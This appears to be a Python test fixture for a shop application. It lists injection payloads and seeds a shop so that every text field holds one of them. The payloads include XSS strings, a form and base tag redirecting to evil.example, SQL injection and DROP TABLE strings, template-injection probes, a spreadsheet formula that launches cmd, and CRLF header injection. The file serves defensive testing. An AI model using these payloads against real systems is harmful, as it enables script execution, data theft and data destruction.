"""Texts that would do something, and a shop that has one of them in every field that takes text."""

from datetime import timedelta

from app.accounts import actions as accounts
from app.accounts.tables import Role, Scope
from app.counts import actions as counts
from app.orders import actions as orders
from app.orders.actions import Wanted
from app.stock import actions as stock
from app.stock.tables import AdjustmentReason
from app.webhooks.actions import hooks
from tests import make
from tests.routes import Stocked

HARMLESS = "Quiet mug"
TEXTS = [
    "'\"><script>window.__pwned=1</script>",
    '" onmouseover="window.__pwned=1" autofocus onfocus="window.__pwned=1" x="',
    " onmouseover=window.__pwned=1 x=".strip(),
    "</script><script>window.__pwned=1</script>",
    "</title></textarea></style><img src=x onerror=window.__pwned=1>",
    "<svg onload=window.__pwned=1><a href=javascript:window.__pwned=1>mug</a>",
    "<div hx-post=/v1/orders hx-trigger=load hx-on:load=window.__pwned=1>mug</div>",
    "<form id=sale action=//evil.example><button name=x>mug",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;//evil.example>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{% raw %}{{ csrf_token }}{% endraw %}{# mug #}",
    "' OR 1=1--",
    "'; DROP TABLE product; --",
    "%_\\ \\' \\\" \\n",
    "javascript:window.__pwned=1",
    '" , "X-A":"b',
    "data: x id: 9 event: restored",
    "=cmd|'/C calc'!A0",
    "+1",
    "-1",
    "@SUM(A1)",
    "&lt;script&gt;&#39;&amp;amp;",
    "<!--<![CDATA[-->]]>",
    "👩\u200d👩\u200d👧 family",
    "x" + "\u0301" * 97,
    "\ufffe\ufeff mug",
    "ﷺ" * 33,
    "ไม้ 杯子 كوب",
    "<" * 98,
]
REFUSED = [
    *("mug\0", "mug\r\nSet-Cookie: a=b", "\x1b[31mmug", "a\tmug", "mug\u202egum", "mu\u2066g"),
    *("mu\u0085g", "mu\x7fg", "x" * 2_001),
]


async def shop_of(text: str) -> Stocked:
    """A shop with a product, orders, counts, a clerk and a program that are all called this."""
    manager = await make.clerk(text, Role.MANAGER)
    mug = await stock.add_product(
        "MUG", text, category=text, barcodes=("5012",), price_cents=350, on_hand=9, actor=text
    )
    await stock.set_reorder_point(mug, 100, actor=text)
    await stock.receive(mug, 1, actor=text, note=text)
    await stock.adjust(mug, -1, reason=AdjustmentReason.LOST, actor=text, note=text)
    hold = await orders.place(
        [Wanted("MUG", 1)],
        reference=text,
        customer=text,
        expires_in=timedelta(hours=1),
        actor=text,
    )
    await orders.place([Wanted("MUG", 1)], reference=text, customer=text, actor=text)
    await orders.scan(mug, 50, clerk=manager, actor=text)
    await orders.await_stock(mug, 50, customer=text, clerk=manager, actor=text)
    await orders.note_lost(mug, 1, actor=text)
    session = await counts.begin(text, actor=text)
    await counts.scan(session, mug, 2, clerk=manager, actor=text)
    await counts.write_note(session, mug, text)
    hook = await hooks.add("https://hooks.example.org/stock", actor=text)
    names: dict[str, object] = {"sku": "MUG", "order_id": hold.id, "hook": hook, "product": mug}
    names |= {"name": "onhand.css", "way": "claim", "session": session}
    token = await accounts.add_token(f"{text} 2", Scope.WRITE)  # a name is a clerk's or programs'
    return Stocked(names, await make.session(manager), token)
